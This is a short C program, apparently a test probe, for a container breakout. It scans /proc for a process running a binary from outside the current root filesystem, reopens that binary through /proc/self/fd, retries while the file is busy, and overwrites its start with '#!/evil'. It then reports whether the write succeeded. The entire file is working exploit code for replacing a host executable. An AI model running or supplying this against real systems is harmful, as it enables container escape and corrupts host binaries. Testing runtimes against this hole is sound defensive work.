// Looks for a process that runs a program which is not of this root, gets hold of the
// program through /proc/PID/exe, and tries to write to it for as long as it may be busy.
// It says how that ended.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(void)
{
	struct stat root, st;
	char path[64];

	puts("looking");
	fflush(stdout);
	if (stat("/", &root) < 0)
		return 1;
	for (time_t end = time(NULL) + 30; time(NULL) < end;) {
		DIR *d = opendir("/proc");
		for (struct dirent *e; d && (e = readdir(d));) {
			snprintf(path, sizeof path, "/proc/%d/exe", atoi(e->d_name));
			int fd = atoi(e->d_name) ? open(path, O_RDONLY) : -1;
			if (fd < 0)
				continue;
			if (fstat(fd, &st) == 0 && st.st_dev != root.st_dev) {
				snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
				for (time_t last = time(NULL) + 3;;) {
					int w = open(path, O_WRONLY);
					ssize_t n = w < 0 ? -1 : write(w, "#!/evil\n", 8);
					if (n < 0 && errno == ETXTBSY && time(NULL) < last)
						continue;
					printf("%s\n", n > 0 ? "written" : strerror(errno));
					return 0;
				}
			}
			close(fd);
		}
		closedir(d);
	}
	puts("found none");
	return 0;
}
